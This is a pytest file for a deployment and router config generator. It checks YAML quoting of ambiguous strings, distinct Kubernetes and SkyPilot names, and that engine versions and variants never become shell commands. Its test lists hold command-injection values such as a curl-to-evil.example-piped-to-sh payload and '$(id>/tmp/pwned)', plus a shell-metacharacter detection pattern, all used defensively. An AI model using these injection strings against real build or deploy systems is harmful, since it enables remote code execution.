"""The deployment and router files mean what they say, whatever the names and the benchmark runs
hold (hardening round 4, h35 F1, F2, F6):
- a string any YAML reader (YAML 1.1, YAML 1.2, Go's sigs.k8s.io/yaml, which kubectl reads with)
  could take for a boolean, a null or a number is written double-quoted;
- two pools never get one Kubernetes or SkyPilot name, and a class's fallback group is never
  another class's group;
- a run's engine version and variant reach SkyPilot's shell and a container's args as words,
  never as commands, and a variant cannot set what fleetplan sets."""

from __future__ import annotations

import json
import re
import shlex
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml

from fleetplan.services.deploy import (
    engine_arguments,
    kubernetes_documents,
    kubernetes_yaml,
    skypilot_services,
    skypilot_yaml,
)
from fleetplan.services.router_config import dump_yaml, litellm_config
from tests.support.planner_points import gpu
from tests.test_planner import run

ROOT = Path(__file__).resolve().parents[1]

# Read as something other than a string by at least one of PyYAML (YAML 1.1), a YAML 1.2 core
# schema reader or Go's yaml.v2 (kubectl): booleans and nulls in any case, ints in every base,
# floats, infinities and NaNs, sexagesimal numbers, a date, YAML 1.1's `=` and `<<`.
NOT_STRINGS = [
    *("y", "Y", "n", "N", "yes", "Yes", "NO", "on", "On", "OFF", "off", "true", "True"),
    *("FALSE", "false", "null", "Null", "NULL", "~", ""),
    *("0", "7", "-1", "+1", "010", "1_000", "0o10", "0O17", "-0o7", "0x1F", "0X1f", "+0x10"),
    *("0b11", "0B101", "-0b1", "1:20", "-1:20:30", "190:20:30"),
    *("1e3", "1E3", "1e-3", "+1e3", "-2E+10", "1.5", "1.", "-1.5e3", ".5", "-.5", "1:20.5"),
    *(".inf", "-.Inf", "+.INF", ".nan", ".NaN", "inf", "NaN", "Infinity"),
    *("2001-12-14", "=", "<<"),
]
# Strings no reader takes for anything else: written as they are (no quotes added).
PLAIN = ["chat", "0.8.5", "1x-h100-pcie", "fleetplan-a-2", "yess", "nope", "0x", "1e", "a1e3"]

_MARK = "!not-a-string"


class _StrictLoader(yaml.SafeLoader):
    """A plain scalar that YAML 1.2's core schema or Go's yaml.v2 resolves to a boolean, a null or
    a number, read as the tag `!not-a-string` (PyYAML's own YAML 1.1 resolvers stay)."""


for _pattern, _first in [
    (r"^(?:y|Y|n|N|yes|Yes|YES|no|No|NO|on|On|ON|off|Off|OFF)$", "yYnNoO"),
    (r"^(?:true|True|TRUE|false|False|FALSE|null|Null|NULL|~)$", "tTfFnN~"),
    (r"^[-+]?(?:0o[0-7]+|0x[0-9a-fA-F]+|[0-9]+)$", "-+0123456789"),
    (r"^[-+]?(?:\.[0-9]+|[0-9]+(?:\.[0-9]*)?)(?:[eE][-+]?[0-9]+)?$", "-+.0123456789"),
    (r"^[-+]?\.(?:inf|Inf|INF)$|^\.(?:nan|NaN|NAN)$", "-+."),
]:
    _StrictLoader.add_implicit_resolver(_MARK, re.compile(_pattern), list(_first))
_StrictLoader.add_constructor(_MARK, lambda loader, node: ("NOT A STRING", node.value))


def _scalars(text: str) -> list[yaml.ScalarNode]:
    out: list[yaml.ScalarNode] = []

    def walk(node: yaml.Node) -> None:
        if isinstance(node, yaml.ScalarNode):
            out.append(node)
        elif isinstance(node, yaml.SequenceNode):
            for item in node.value:
                walk(item)
        elif isinstance(node, yaml.MappingNode):
            for key, value in node.value:
                walk(key)
                walk(value)

    for document in yaml.compose_all(text, Loader=yaml.SafeLoader):
        walk(document)
    return out


def _assert_quoted(text: str, names: list[str]) -> None:
    """Every scalar holding one of `names` double-quoted; the text read back the same by PyYAML
    and by the strict reader (no plain scalar left that another reader takes for a non-string)."""
    found = [node for node in _scalars(text) if node.value in names]
    assert found, "none of the names is in the text"
    assert all(node.style == '"' for node in found), [(n.value, n.style) for n in found]
    assert list(yaml.load_all(text, Loader=_StrictLoader)) == list(yaml.safe_load_all(text))
    assert "NOT A STRING" not in repr(list(yaml.load_all(text, Loader=_StrictLoader)))


@pytest.mark.parametrize("value", NOT_STRINGS)
def test_a_string_any_reader_could_take_for_something_else_is_double_quoted(value):
    data = {"name": value, value: "key", "list": [value, {"annotation": value}]}
    text = dump_yaml(data)
    assert yaml.safe_load(text) == data
    assert text.count(json.dumps(value)) == 4, text  # double-quoted where it stands
    _assert_quoted(text, [value])
    (document,) = yaml.safe_load_all(dump_yaml([data], documents=True))
    assert document == data


@pytest.mark.parametrize("value", PLAIN)
def test_a_string_no_reader_misreads_is_written_plain(value):
    text = dump_yaml({"name": value})
    assert text == f"name: {value}\n"
    assert yaml.load(text, Loader=_StrictLoader) == {"name": value}


def _peak_plan(classes, offered=None, **extra):
    return run(classes, offered or [gpu("h100-pcie", 2.0)], **extra)


def _with_server(plan, server: str):
    """The plan, its pools measured on `server` (the runs' engine, version and variant)."""
    pools = [p.model_copy(update={"server": server}) for p in plan.recommended.pools]
    return plan.model_copy(
        update={"recommended": plan.recommended.model_copy(update={"pools": pools})}
    )


def test_a_peak_plan_s_class_names_that_look_like_values_come_back_as_names():
    names = ["y", "1e3", "0o10", "N"]
    plan = _peak_plan([{"name": n, "rate_rps": 1} for n in names])
    assert {p.traffic_class for p in plan.recommended.pools} == set(names)
    config = litellm_config(plan)
    _assert_quoted(config, names)
    assert {d["model_name"] for d in yaml.safe_load(config)["model_list"]} == set(names)
    k8s = kubernetes_yaml(plan, {})
    docs = list(yaml.safe_load_all(k8s))
    assert len(docs) == 2 * len(names)
    assert list(yaml.load_all(k8s, Loader=_StrictLoader)) == docs
    for text in skypilot_yaml(plan, {}).values():
        assert yaml.load(text, Loader=_StrictLoader) == yaml.safe_load(text)


DAY = ROOT / "examples" / "day-two-models-owned.json"


@pytest.fixture
def day_names(tmp_path):
    """A day scenario (the two-model example) whose names look like values: offer `y`, a class
    `1e3` and one `n` (the report's reproducers), written out."""
    scenario = json.loads(DAY.read_text())
    scenario["classes"][0]["name"] = "1e3"
    scenario["classes"][2]["name"] = "n"
    scenario["gpus"][0]["name"] = "y"
    path = tmp_path / "day.json"
    path.write_text(json.dumps(scenario))
    return path


def test_a_day_plan_s_names_that_look_like_values_are_quoted_for_kubectl(
    cli, tmp_path, sample_warehouse_template, day_names
):
    router = tmp_path / "router.yaml"
    fleet = tmp_path / "fleet.yaml"
    done = cli(
        "plan", "--scenario", day_names, "--warehouse", sample_warehouse_template,
        "--router", "litellm", "-o", router, "--deploy", "kubernetes", "--deploy-out", fleet,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    text = fleet.read_text()
    docs = list(yaml.safe_load_all(text))
    offers = {d["metadata"]["annotations"].get("fleetplan.io/offer") for d in docs}
    assert "y" in offers
    _assert_quoted(text, ["y", "1e3", "n"])
    config = router.read_text()
    assert {"1e3", "n"} <= {d["model_name"] for d in yaml.safe_load(config)["model_list"]}
    _assert_quoted(config, ["1e3", "n", "y"])
    if shutil.which("kubectl") is None:
        return  # the pure-Python reading above is the test; kubectl, where installed, too
    read = subprocess.run(
        ["kubectl", "create", "--dry-run=client", "--validate=false", "-f", str(fleet)],
        capture_output=True,
        text=True,
        timeout=120,
        env={"KUBECONFIG": "/dev/null", "PATH": "/usr/bin:/bin:/usr/local/bin"},
    )
    # No cluster: the objects are decoded, then cannot be mapped ("unable to recognize").
    assert "unable to decode" not in read.stderr and "cannot unmarshal" not in read.stderr
    assert "unable to recognize" in read.stderr or read.returncode == 0, read.stderr


_DNS_1035 = re.compile(r"[a-z]([-a-z0-9]*[a-z0-9])?")


def test_pool_names_that_would_meet_after_a_number_are_still_told_apart():
    """Two class names cut to one 63-character name, and a third whose own name is the one the
    second would get (`-2`): three Deployments, three Services, three SkyPilot files."""
    classes = ["a" * 60, "a" * 61, "a" * 51 + "-2zzzzz"]
    plan = _peak_plan([{"name": n, "rate_rps": 1} for n in classes])
    assert len([p for p in plan.recommended.pools if p.servers > 0]) == 3
    docs = kubernetes_documents(plan, {})
    for kind in ("Deployment", "Service"):
        names = [d["metadata"]["name"] for d in docs if d["kind"] == kind]
        assert len(names) == len(set(names)) == 3, names
        assert all(len(n) <= 63 and _DNS_1035.fullmatch(n) for n in names), names
    deployments = {
        d["metadata"]["annotations"]["fleetplan.io/pool"]: d["metadata"]["name"]
        for d in docs
        if d["kind"] == "Deployment"
    }
    # The third class keeps its own name; the second, cut to the first's, gets one nobody has.
    third = "fleetplan-" + "a" * 51 + "-2"
    assert deployments[classes[2] + "/1x-h100-pcie"] == third
    assert deployments[classes[0] + "/1x-h100-pcie"] == "fleetplan-" + "a" * 53
    assert deployments[classes[1] + "/1x-h100-pcie"] == "fleetplan-" + "a" * 51 + "-3"
    for d in docs:  # each Service selects its own Deployment's pods alone
        if d["kind"] == "Service":
            assert d["spec"]["selector"] == {"fleetplan.io/pool": d["metadata"]["name"]}
    files = skypilot_yaml(plan, {})
    assert len(files) == 3
    assert {yaml.safe_load(t)["name"] for t in files.values()} == set(deployments.values())


def _fallback_plan(*others: str):
    # 4090 hosts up 95 %: chat spills onto H100s, which cover for them (test_router_config).
    return _peak_plan(
        [
            {
                "name": "chat",
                "rate_rps": 14,
                "ttft_p99_ms": 300,
                "attainment": 0.99,
                "fallback": True,
            },
            *({"name": n, "rate_rps": 1, "ttft_p99_ms": 300} for n in others),
        ],
        [
            gpu("h100-pcie", 2.0, availability=0.999),
            gpu("rtx-4090", 0.25, availability=0.95, max_gpus=8),
        ],
        capacity_rule="measured",
    )


@pytest.mark.parametrize(
    ("others", "group"),
    [
        ((), "chat-fallback"),
        (("chat-fallback",), "chat-fallback-2"),
        (("chat-fallback", "chat-fallback-2"), "chat-fallback-3"),
    ],
)
def test_a_fallback_group_never_takes_a_class_s_name(others, group):
    config = yaml.safe_load(litellm_config(_fallback_plan(*others)))
    assert config["router_settings"]["fallbacks"] == [{"chat": [group]}]
    groups: dict[str, list[str]] = {}
    for d in config["model_list"]:
        groups.setdefault(d["model_name"], []).append(d["model_info"]["id"])
    assert groups[group] and all(
        i.startswith("chat/") and i.endswith("#fallback") for i in groups[group]
    )
    for name in others:  # each class's group holds its own pools alone
        assert groups[name] and all(i.startswith(f"{name}/") for i in groups[name]), groups
        assert all(i.endswith("#primary") for i in groups[name])


HOSTILE_VERSIONS = [
    "0.8.5;curl${IFS}evil.example|sh",
    "0.8.5$(id)",
    "0.8.5`id`",
    "0.8.5&&id",
    "0.8.5|sh",
    "0.8.5>x",
    "0.8.5'",
    "v0.8.5",
    "1" + ".0" * 40,
]
_SHELL = re.compile(r"[$`;|&<>()'\"\\*?{}\[\]!#~]")


@pytest.mark.parametrize("version", HOSTILE_VERSIONS)
def test_an_engine_version_that_is_no_version_is_not_used(version):
    plan = _with_server(_peak_plan([{"name": "chat", "rate_rps": 1}]), f"vllm {version}, float16")
    (task,) = skypilot_services(plan, {}).values()
    assert task["setup"] == "pip install vllm"  # as an unknown version: the latest
    (deployment, _service) = kubernetes_documents(plan, {})
    (container,) = deployment["spec"]["template"]["spec"]["containers"]
    assert container["image"] == "vllm/vllm-openai:latest"


@pytest.mark.parametrize(
    ("version", "image", "setup"),
    [
        ("0.8.5", "v0.8.5", "pip install vllm==0.8.5"),
        ("0.8.5.post1", "v0.8.5.post1", "pip install vllm==0.8.5.post1"),
        ("0.10.1rc1", "v0.10.1rc1", "pip install vllm==0.10.1rc1"),
        ("0.9.0+cu126", "v0.9.0", "pip install vllm==0.9.0+cu126"),
    ],
)
def test_a_version_is_used_as_it_is(version, image, setup):
    plan = _with_server(_peak_plan([{"name": "chat", "rate_rps": 1}]), f"vllm {version}, float16")
    (task,) = skypilot_services(plan, {}).values()
    assert task["setup"] == setup
    (deployment, _service) = kubernetes_documents(plan, {})
    (container,) = deployment["spec"]["template"]["spec"]["containers"]
    assert container["image"] == f"vllm/vllm-openai:{image}"


def test_the_report_s_warehouse_injection_reaches_no_shell():
    """h35 F6's reproducer: the run's version and variant as the warehouse held them."""
    server = "vllm 0.8.5;curl${IFS}evil.example|sh, float16, TP 1, --max-num-seqs=$(id>/tmp/pwned)"
    plan = _with_server(_peak_plan([{"name": "chat", "rate_rps": 1}]), server)
    for text in skypilot_yaml(plan, {}).values():
        assert not _SHELL.search(text.split("\n", 2)[2].replace('HF_TOKEN: ""', "")), text
        task = yaml.safe_load(text)
        assert task["setup"] == "pip install vllm"
        assert "max-num-seqs" not in task["run"] and "pwned" not in task["run"]
        assert task["envs"]["FLEETPLAN_VARIANT_NOT_SET"] == "--max-num-seqs=__id_/tmp/pwned_"
    (deployment, _service) = kubernetes_documents(plan, {})
    (container,) = deployment["spec"]["template"]["spec"]["containers"]
    assert not any("$" in a or "pwned" in a for a in container["args"])
    assert container["image"] == "vllm/vllm-openai:latest"
    # The annotation keeps the runs' words, as data, and names the variant not set.
    annotations = deployment["metadata"]["annotations"]
    assert annotations["fleetplan.io/variant-not-set"] == "--max-num-seqs=$(id>/tmp/pwned)"


@pytest.mark.slow  # 0.5 s or more here (tests/support/slow.py)
@pytest.mark.parametrize(
    "variant",
    [
        "--model=other/model",
        "--tensor-parallel-size=8",
        "--port=9999",
        "--host=1.2.3.4",
        "--dtype=float32",
        "--served-model-name=other",
        "--api-key=secret",
        "--pipeline-parallel-size=2",
        "--data-parallel-size=2",
        "--config=/tmp/x.yaml",
        "--mod=other/model",  # a prefix argparse may take for --model
        "--tensor-parallel=8",
        "--enable-prefix-caching --port=1",  # one word refused: the label is not passed
        "--max-num-seqs=$(id>/tmp/pwned)",
        "--max-num-seqs=`id`",
        "--max-num-seqs=1;id",
        "--max-num-seqs='1'",
        "--max-num-seqs=${HOME}",
    ],
)
def test_a_variant_setting_what_fleetplan_sets_or_holding_shell_is_not_passed(variant):
    plan = _with_server(
        _peak_plan([{"name": "chat", "rate_rps": 1}]), f"vllm 0.8.5, float16, TP 1, {variant}"
    )
    pool = plan.recommended.pools[0]
    args, unknown = engine_arguments(pool, "acme/m")
    assert unknown == [variant]
    assert args == [
        "--model", "acme/m", "--tensor-parallel-size", "1", "--dtype", "float16",
        "--host", "0.0.0.0", "--port", "8000",
    ]  # fmt: skip
    (task,) = skypilot_services(plan, {}).values()
    assert shlex.split(task["run"]) == ["python", "-m", "vllm.entrypoints.openai.api_server"] + [
        a.replace("acme/m", plan.model) for a in args
    ]
    assert not _SHELL.search(task["envs"]["FLEETPLAN_VARIANT_NOT_SET"])
    assert "variant-not-set" in kubernetes_yaml(plan, {})


@pytest.mark.parametrize(
    "variant",
    [
        "--enable-prefix-caching",
        "--max-num-seqs=128",
        "--model-impl=transformers",
        "--quantization=awq --max-model-len=8192",
        "--kv-cache-dtype=fp8_e4m3",
    ],
)
def test_a_plain_variant_is_still_passed(variant):
    plan = _with_server(
        _peak_plan([{"name": "chat", "rate_rps": 1}]), f"vllm 0.8.5, float16, TP 1, {variant}"
    )
    args, unknown = engine_arguments(plan.recommended.pools[0], "acme/m")
    assert unknown == [] and args[-len(variant.split()) :] == variant.split()
    (task,) = skypilot_services(plan, {}).values()
    assert shlex.split(task["run"])[-len(variant.split()) :] == variant.split()
    assert "FLEETPLAN_VARIANT_NOT_SET" not in task["envs"]


def test_a_model_name_with_shell_or_a_kubernetes_variable_is_one_word():
    """The scenario's model reaches `--model`: one quoted word in SkyPilot's `run`; `$$` in a
    container's args, which Kubernetes reads back as one `$` (no `$(VAR)` expanded)."""
    model = "acme/$(HOME) m;id"
    plan = _peak_plan([{"name": "chat", "rate_rps": 1}])
    (task,) = skypilot_services(plan, {"chat": model}).values()
    words = shlex.split(task["run"])
    assert words[words.index("--model") + 1] == model
    (deployment, _service) = kubernetes_documents(plan, {"chat": model})
    (container,) = deployment["spec"]["template"]["spec"]["containers"]
    assert container["args"][container["args"].index("--model") + 1] == "acme/$$(HOME) m;id"
